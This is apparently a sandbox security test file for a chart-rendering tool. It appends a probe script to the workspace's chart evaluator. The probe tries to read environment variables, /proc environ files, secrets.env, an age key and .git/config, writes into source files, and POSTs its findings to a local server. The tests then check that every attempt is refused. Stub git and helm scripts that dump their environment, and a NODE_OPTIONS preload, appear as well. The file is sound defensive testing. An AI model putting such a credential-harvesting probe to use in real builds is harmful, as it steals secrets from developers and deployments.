import { appendFileSync, chmodSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { generateAgeIdentity } from '@dhallmark/sops-runner';
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { findProgram } from '../../tools/reference/find-program.ts';
import { charts } from '../support/charts.ts';
import { baseEnvironment, runNx, type Run } from '../support/run-nx.ts';
import { runProgram } from '../support/run-program.ts';
import { createWorkspace, type Workspace } from '../support/workspace.ts';

// Someone found a way to run code in the evaluator, through a chart or through a package that it
// loads. Here that code is written into the workspace's copy of the evaluator. It looks for values and
// keys everywhere, and says in a file what it found.

// each test runs programs that start others
vi.setConfig({ testTimeout: 240_000 });

const key = generateAgeIdentity();
const canary = 'canary-4711-value';
const values = {
  WEB_TOKEN: canary,
  WEB_KEY: Buffer.from(canary).toString('base64'),
  WEB_FILE: './web-file.txt',
  DB_PASSWORD: canary,
  SOPS_AGE_KEY: key.identity,
  DHALLMARK_FINGERPRINT_KEY: `${canary}-of-32-characters-or-more`,
  DHALLMARK_DEPLOY_TOKEN: canary,
};

/** Where the evaluator may write, so that a test can read it. */
const REPORT = 'dist/charts/found.json';

const probe = `
import * as fs from 'node:fs';
import { execFileSync } from 'node:child_process';
import { Worker } from 'node:worker_threads';

const found: Record<string, string> = {};
function attempt(name: string, action: () => unknown): void {
  try {
    found[name] = String(action());
  } catch (error) {
    found[name] = \`refused: \${(error as { code?: string }).code}\`;
  }
}
attempt('variables', () => JSON.stringify(process.env));
attempt('arguments', () => process.argv.concat(process.execArgv).join(' '));
attempt('own environment', () => fs.readFileSync('/proc/self/environ', 'latin1'));
attempt("parent's environment", () => fs.readFileSync(\`/proc/\${process.ppid}/environ\`, 'latin1'));
attempt('program', () => execFileSync('cat', [\`/proc/\${process.ppid}/environ\`], { encoding: 'latin1' }));
attempt('worker', () => new Worker('0', { eval: true }).threadId);
attempt('native code', () => process.dlopen({ exports: {} }, '/usr/lib/native.node'));
attempt('secrets.env', () => fs.readFileSync('secrets.env', 'utf8'));
attempt('home', () => fs.readFileSync(\`\${process.env['HOME']}/.config/dhallmark/age/local.txt\`, 'utf8'));
attempt('deploy tree', () => fs.readdirSync('deploy').join(' '));
attempt('.git', () => fs.readFileSync('.git/config', 'utf8'));
attempt('write to sources', () => fs.openSync('charts/chart.dhall', 'a'));
attempt('write to code', () => fs.openSync('packages/dhallmark/src/fault.ts', 'a'));
attempt('compiled code', () => fs.readdirSync(\`\${process.env['HOME']}/.cache/dhallmark/compiled\`).join(' '));
attempt('link', () => fs.symlinkSync('/proc', 'dist/charts/proc'));
attempt('write to staging', () => fs.writeFileSync('${REPORT}', JSON.stringify(found)));
const { PORT } = JSON.parse(fs.readFileSync('port.json', 'utf8')) as { PORT: number };
// the process that knows values writes nothing, but a port of this machine is in its reach
if (found['write to staging'] !== 'undefined') {
  void fetch(\`http://127.0.0.1:\${PORT}\`, { method: 'POST', body: JSON.stringify(found) });
}
if (fs.existsSync('charts/kill')) process.kill(process.pid, 'SIGKILL');
if (fs.existsSync('charts/exit')) process.exit(7);
if (fs.existsSync('charts/talk')) process.stdout.write('x'.repeat(100) + '\\n');
`;

type Findings = Readonly<Record<string, string>>;

let workspace: Workspace;
let server: Server;
/** What code in the process that evaluates Secrets found. */
const received: Findings[] = [];

const environment = (more: Readonly<Record<string, string>>) => ({
  ...baseEnvironment(workspace),
  ...values,
  ...more,
});

function dhallmark(
  args: readonly string[],
  more: Readonly<Record<string, string>> = {},
): Promise<Run> {
  return dhallmarkWith(args, environment(more));
}

function dhallmarkWith(
  args: readonly string[],
  env: Readonly<Record<string, string>>,
): Promise<Run> {
  const program = workspace.path('packages/dhallmark/bin/dhallmark.cjs');
  return runProgram(process.execPath, [program, ...args], { cwd: workspace.root, env });
}

const readReport = () => JSON.parse(readFileSync(workspace.path(REPORT), 'utf8')) as Findings;

beforeAll(async () => {
  const rules = `creation_rules:\n  - age: ${key.recipient}\n    encrypted_regex: ^(data|stringData)$\n`;
  workspace = createWorkspace({
    copy: ['dhall/Secret'],
    files: { ...charts, '.sops.yaml': rules },
  });
  workspace.write({ 'secrets.env': `WEB_TOKEN=${canary}\n` });
  const receive = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    received.push(JSON.parse(await text(request)) as Findings);
    response.end();
  };
  server = createServer((request, response) => void receive(request, response));
  await new Promise<void>((done) => {
    server.listen(0, '127.0.0.1', done);
  });
  const { port } = server.address() as AddressInfo;
  workspace.write({ 'port.json': JSON.stringify({ PORT: port }) });
  appendFileSync(workspace.path('packages/chart-gen/src/charts/render-chart.ts'), probe);
});
afterAll(() => {
  server.close();
  workspace.remove();
});
beforeEach(() => {
  rmSync(workspace.path('dist'), { recursive: true, force: true });
  rmSync(workspace.path('.nx'), { recursive: true, force: true });
  received.length = 0;
});

const refused = [
  'own environment',
  "parent's environment",
  'program',
  'worker',
  'native code',
  'secrets.env',
  'home',
  'deploy tree',
  '.git',
  'write to sources',
  'write to code',
  'compiled code',
  'link',
];

function expectNothingFound(found: Findings): void {
  for (const [name, what] of Object.entries(found)) {
    expect(what, name).not.toContain(canary);
    expect(what, name).not.toContain(key.identity);
  }
  const allowed = Object.entries(found).filter(([, what]) => !what.startsWith('refused: ERR_'));
  expect(allowed.map(([name]) => name)).toEqual(['variables', 'arguments']);
  expect(Object.keys(found)).toEqual(['variables', 'arguments', ...refused]);
}

describe('code that runs where charts are evaluated', () => {
  const runs: Readonly<Record<string, () => Promise<Run>>> = {
    'dhallmark make': () => dhallmark(['make', '-e', 'prod']),
    'nx run chart:make': () =>
      runNx(workspace, ['run', 'chart:make', '-c', 'prod'], { env: environment({}) }),
    'nx run chart-web:render, without a batch': () =>
      runNx(workspace, ['run', 'chart-web:render', '-c', 'prod', '--batch=false'], {
        env: environment({}),
      }),
  };

  test.each(Object.entries(runs))('finds no value and no key: %s', async (_name, start) => {
    // so that all that it looks for is there
    expect((await dhallmark(['make'])).code).toBe(0);
    rmSync(workspace.path('dist'), { recursive: true });
    const run = await start();
    expect(run.code, run.text).toBe(0);
    expectNothingFound(readReport());
  });

  test('finds no other value and no key where a Secret is evaluated', async () => {
    expect((await dhallmark(['make'])).code).toBe(0);
    rmSync(workspace.path('deploy/prod'), { recursive: true, force: true });
    received.length = 0;
    const made = await dhallmark(['make', '-e', 'prod']);
    expect(made.code, made.text).toBe(0);
    expect(received).toHaveLength(1);
    const [{ 'write to staging': staging, ...found } = {}] = received;
    expect(staging).toBe('refused: ERR_ACCESS_DENIED');
    expectNothingFound(found);
  });

  test('gets no variable that steers Node', async () => {
    const loaded = join(workspace.home, 'loaded.txt');
    const preload = join(workspace.home, 'preload.cjs');
    workspace.write({
      '../home/preload.cjs': `require('node:fs').appendFileSync(${JSON.stringify(loaded)}, process.argv[1] + '\\n')`,
    });
    const made = await dhallmark(['make', '-e', 'prod'], {
      NODE_OPTIONS: `--require=${preload}`,
    });
    expect(made.code, made.text).toBe(0);
    expect(readFileSync(loaded, 'utf8')).toBe(
      `${workspace.path('packages/dhallmark/bin/dhallmark.cjs')}\n`,
    );
    expect(readReport()['variables']).not.toContain('NODE_OPTIONS');
  });
});

describe('a program that a run starts', () => {
  test('finds no value and no key in its environment', async () => {
    const record = 'cat /proc/self/environ > "$HOME/$(basename "$0")-environ"';
    const script = (then: string): string => `#!/bin/sh\n${record}\n${then}\n`;
    const git = findProgram('git') ?? '';
    workspace.write({
      '../bin/git': script(`exec ${git} "$@"`),
      '../bin/helm': script('exit 0'),
      '../bin/print-key': script(`echo ${key.identity}`),
    });
    for (const name of ['git', 'helm', 'print-key'])
      chmodSync(workspace.path('../bin', name), 0o755);
    expect((await dhallmark(['make', '-e', 'prod'])).code).toBe(0);
    const { SOPS_AGE_KEY: _, ...env } = environment({
      PATH: `${workspace.path('../bin')}:${process.env['PATH'] ?? ''}`,
      SOPS_AGE_KEY_CMD: workspace.path('../bin/print-key'),
      WEB_TOKEN: `${canary}-changed`,
    });
    for (const verb of ['make', 'lint']) {
      const { code, text: said } = await dhallmarkWith([verb, '-e', 'prod'], env);
      expect(code, said).toBe(0);
      expect(said).not.toContain(canary);
    }
    for (const name of ['git', 'helm', 'print-key']) {
      const seen = readFileSync(join(workspace.home, `${name}-environ`), 'latin1');
      expect(seen, name).toContain('PATH=');
      expect(seen, name).not.toContain(canary);
      expect(seen, name).not.toContain(Buffer.from(canary).toString('base64'));
      expect(seen, name).not.toContain(key.identity);
    }
  });
});

describe('the process that evaluates charts', () => {
  const endings = {
    kill: 'it was ended by SIGKILL',
    exit: 'its exit status is 7',
    talk: 'it did not answer with JSON',
  };

  test.each(Object.entries(endings))('ends early: %s', async (file, why) => {
    expect((await dhallmark(['make', '-e', 'prod'])).code).toBe(0);
    const before = readFileSync(workspace.path('deploy/prod/.dhallmark/manifest.json'), 'utf8');
    rmSync(workspace.path('dist'), { recursive: true });
    workspace.write({ [`charts/${file}`]: '' });
    try {
      const { code, stderr } = await dhallmark(['make', '-e', 'prod']);
      expect(code).toBe(1);
      // one message about the process, and one about the file that makes it end
      const codes = stderr.match(/error\[[^\]]+/g);
      expect(codes).toEqual(['error[process-ended', 'error[unused-file']);
      expect(stderr).toContain(
        `error[process-ended] in the umbrella chart, db, plain, web: The process that evaluates charts ended before it answered: ${why}`,
      );
    } finally {
      rmSync(workspace.path(`charts/${file}`));
    }
    const manifest = readFileSync(workspace.path('deploy/prod/.dhallmark/manifest.json'), 'utf8');
    expect(manifest).toBe(before);
    expect((await dhallmark(['make', '-e', 'prod'])).stdout).toContain('unchanged');
  });
});
